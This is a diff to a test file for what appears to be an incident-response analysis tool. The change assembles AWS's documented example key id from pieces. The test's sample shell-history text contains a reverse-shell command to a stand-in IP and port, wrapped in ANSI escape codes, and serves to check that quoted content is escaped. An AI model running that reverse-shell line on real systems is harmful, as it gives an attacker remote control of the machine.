@@ -306,7 +306,9 @@ describe('analyse: refusals and limits', () => {
 
   it('analyses inline texts and escapes what it quotes', async () => {
     const bucket = await newBucket();
-    const text = '\u001b[31mbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\u001b[0m; aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE\n';
+    // AWS's documented example key id, assembled so no key-shaped literal sits in the repository.
+    const exampleKeyId = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
+    const text = `\u001b[31mbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\u001b[0m; aws configure set aws_access_key_id ${exampleKeyId}\n`;
     const result = await analyseArtifacts(
       { input: { artifacts: [{ kind: 'volatile:histories', name: 'h', text, sha256: sha256(text) }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } } as never, actor: ACTOR, incidentId: 'inc-inline' },
       deps(bucket),
